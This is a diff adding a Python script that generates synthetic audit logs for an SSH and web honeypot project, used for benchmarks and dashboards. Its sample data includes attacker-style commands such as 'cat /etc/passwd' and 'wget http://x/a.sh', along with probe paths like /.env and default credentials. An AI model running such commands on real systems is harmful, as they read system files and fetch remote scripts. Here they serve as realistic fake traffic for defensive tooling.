@@ -0,0 +1,210 @@
+# Import libraries
+import argparse
+import gzip
+import time
+from pathlib import Path
+
+import numpy as np
+
+# Writes synthetic audit logs in the formats the honeypots log with (see
+# ssh_honeypot.py and web_honeypot.py): a few IPs, usernames, passwords, commands
+# and URLs make up most of the traffic (Zipf distributed), the history is split
+# into rotation segments like RotatingFileHandler leaves them, and a few lines are
+# malformed. Used by the benchmarks, or on its own to fill a dashboard with data:
+#
+#   python benchmarks/log_generator.py /tmp/buzzpy_logs --events 1000000
+
+# Log name of each family and its share of the generated events
+LOG_FILES = {
+    "ssh_creds": ("audits.log", 0.4),
+    "ssh_cmds": ("cmd_audits.log", 0.2),
+    "http_url": ("http_url_audits.log", 0.3),
+    "http_creds": ("http_audits.log", 0.1),
+}
+
+# Lines are generated and written this many at a time, so memory stays bounded
+BLOCK_LINES = 500000
+
+# Lines logged by something else than the honeypot loggers, never parsed
+NOISE_LINES = [
+    "",
+    "Traceback (most recent call last):",
+    "paramiko.ssh_exception.SSHException: Error reading SSH protocol banner",
+    "Connection reset by peer",
+]
+
+
+def zipf_pool(rng, pool, count):
+    """Draw count values from pool, the first values being the most frequent."""
+    ranks = rng.zipf(1.3, size=count)
+    return np.asarray(pool, dtype=object)[(ranks - 1) % len(pool)]
+
+
+def make_pools(seed=0):
+    """Return the values the events are drawn from, the same for every block."""
+    rng = np.random.default_rng(seed)
+    ips = [".".join(map(str, rng.integers(1, 255, size=4))) for _ in range(20000)]
+    # request.remote_addr of IPv6 clients
+    ips[5::50] = [
+        "2001:db8:{:x}::{:x}".format(*rng.integers(1, 65535, size=2))
+        for _ in ips[5::50]
+    ]
+    return {
+        "ips": ips,
+        "usernames": ["root", "admin", "ubuntu", "test", "oracle", "pi", "guest"],
+        "passwords": ["123456", "password", "admin"]
+        + [f"pass{n}" for n in range(50000)],
+        "commands": [
+            "b'ls'",
+            "b'uname -a'",
+            "b'cat /etc/passwd'",
+            "b'wget http://x/a.sh'",
+        ]
+        + [f"b'echo {n}'" for n in range(5000)],
+        "paths": ["/", "/wp-admin", "/wp-login.php", "/.env", "/xmlrpc.php"]
+        + [f"/page/{n}" for n in range(5000)],
+        "args": ["{}", "{}", "{}", "{'p': '1'}", "{'author': '1', 'rest_route': '/'}"],
+        "methods": ["GET", "POST", "HEAD"],
+    }
+
+
+def generate_block(family, count, rng, pools, start, interval_ms):
+    """Return count log lines of a family from start on and the time of the last one."""
+    steps = rng.integers(1, 2 * interval_ms, size=count).cumsum()
+    times = start + steps.astype("timedelta64[ms]")
+    # logging's asctime, "2025-01-01 00:00:00,000"
+    timestamps = [
+        stamp.replace("T", " ").replace(".", ",")
+        for stamp in np.datetime_as_string(times, unit="ms")
+    ]
+    ips = zipf_pool(rng, pools["ips"], count)
+    usernames = zipf_pool(rng, pools["usernames"], count)
+    passwords = zipf_pool(rng, pools["passwords"], count)
+
+    if family == "ssh_creds":
+        lines = [
+            f"{t} Client {ip} connection attempt username: {u}, password: {p}"
+            for t, ip, u, p in zip(timestamps, ips, usernames, passwords)
+        ]
+    elif family == "ssh_cmds":
+        commands = zipf_pool(rng, pools["commands"], count)
+        lines = [
+            f"{t} Command: {c} Client: {ip}"
+            for t, c, ip in zip(timestamps, commands, ips)
+        ]
+    elif family == "http_url":
+        paths = zipf_pool(rng, pools["paths"], count)
+        methods = zipf_pool(rng, pools["methods"], count)
+        args = zipf_pool(rng, pools["args"], count)
+        lines = [
+            f"{t} Client {ip} | Method: {m} | URL: http://127.0.0.1:5000{u} | Args: {a}"
+            for t, ip, m, u, a in zip(timestamps, ips, methods, paths, args)
+        ]
+    else:
+        lines = [
+            f"{t} Client {ip} attempted login with username: {u} and password: {p}"
+            for t, ip, u, p in zip(timestamps, ips, usernames, passwords)
+        ]
+
+    # Lines the bulk parser hands to the regex: padded, truncated and without
+    # timestamp, and lines that are not events at all
+    for index in rng.integers(0, count, size=max(count // 1000, 1)):
+        line = lines[index]
+        lines[index] = rng.choice(
+            [f"  {line}\t", line[: len(line) // 2], line[24:], rng.choice(NOISE_LINES)]
+        )
+    return lines, times[-1]
+
+
+def synthetic_lines(family, count, seed=0):
+    """Return count synthetic log lines of a family, a few of them malformed."""
+    rng = np.random.default_rng(seed)
+    start = np.datetime64("2025-01-01T00:00:00.000")
+    return generate_block(family, count, rng, make_pools(seed), start, 1000)[0]
+
+
+def segment_paths(log_file, segments, compress=None):
+    """Return the files of a log from the oldest rotation segment to the live file.
+
+    With compress ("gz"), segments from .2 on are compressed, like logrotate's
+    delaycompress leaves them.
+    """
+    paths = []
+    for index in range(segments, 0, -1):
+        suffix = f".{compress}" if compress and index > 1 else ""
+        paths.append(Path(f"{log_file}.{index}{suffix}"))
+    return paths + [Path(log_file)]
+
+
+def open_segment(path):
+    if path.suffix == ".gz":
+        return gzip.open(path, "wt", compresslevel=1)
+    return open(path, "w")
+
+
+def write_logs(log_dir, events, segments=3, compress=None, days=30, seed=0):
+    """Write about events synthetic events, spread over the four logs, to log_dir.
+
+    Each log gets segments rotated files plus the live file, and its events cover
+    the last days days. Returns the number of lines written to each log.
+    """
+    log_dir = Path(log_dir)
+    log_dir.mkdir(parents=True, exist_ok=True)
+    pools = make_pools(seed)
+    end = np.datetime64(int(time.time() * 1000), "ms")
+    written = {}
+    for number, (family, (log_name, share)) in enumerate(LOG_FILES.items()):
+        count = max(int(events * share), 1)
+        interval_ms = max(days * 86400000 // count, 1)
+        # Steps average interval_ms, so the last event lands about at end
+        cursor = end - np.timedelta64(interval_ms * count, "ms")
+        rng = np.random.default_rng([seed, number])
+        paths = segment_paths(log_dir / log_name, segments, compress)
+        per_segment = -(-count // len(paths))
+        remaining = count
+        for path in paths:
+            with open_segment(path) as file:
+                segment_left = min(per_segment, remaining)
+                remaining -= segment_left
+                while segment_left:
+                    block = min(segment_left, BLOCK_LINES)
+                    lines, cursor = generate_block(
+                        family, block, rng, pools, cursor, interval_ms
+                    )
+                    file.write("\n".join(lines) + "\n")
+                    segment_left -= block
+        written[family] = count
+    return written
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Buzzpy synthetic log generator")
+    parser.add_argument("log_dir", help="Directory to write the logs to")
+    parser.add_argument(
+        "--events", type=int, default=100000, help="Events over all four logs"
+    )
+    parser.add_argument(
+        "--segments", type=int, default=3, help="Rotated segments per log"
+    )
+    parser.add_argument(
+        "--compress", choices=["gz"], help="Compress segments from .2 on"
+    )
+    parser.add_argument(
+        "--days", type=int, default=30, help="Days of history, ending now"
+    )
+    parser.add_argument("--seed", type=int, default=0)
+    args = parser.parse_args()
+
+    start = time.perf_counter()
+    written = write_logs(
+        args.log_dir, args.events, args.segments, args.compress, args.days, args.seed
+    )
+    print(
+        f"[+] Wrote {sum(written.values())} events to {args.log_dir} "
+        f"in {time.perf_counter() - start:.1f} s: "
+        + ", ".join(f"{family} {count}" for family, count in written.items())
+    )
+
+
+if __name__ == "__main__":
+    main()